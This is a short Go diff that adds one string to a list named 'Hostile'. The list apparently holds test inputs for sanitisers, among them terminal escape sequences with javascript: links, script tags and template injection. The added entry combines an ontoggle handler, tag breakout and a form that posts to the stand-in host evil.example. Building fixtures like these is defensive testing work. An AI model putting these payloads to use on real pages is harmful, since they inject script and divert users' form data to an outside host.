@@ -15,6 +15,7 @@ var Hostile = []string{
 	"\x1b]8;;javascript:evil(1)\x07link\x1b]8;;\x07 \x1b[31m<b>evil</b>\x1b[0m \x1b]0;evil\x07",
 	"<!--><script>evil(1)</script>-->\u2028<script>evil(1)</script>",
 	`{{.}}${evil(1)}` + "`" + `evil`,
+	"<details open ontoggle=evil(1)><summary>a</summary></details></section></main><p style=\"position:fixed\" id=\"live\" class=\"evil\"><form action=//evil.example><input name=evil>",
 	"<evil\x00 onload=evil(1)>\xff\xfe<evil>",
 }
 
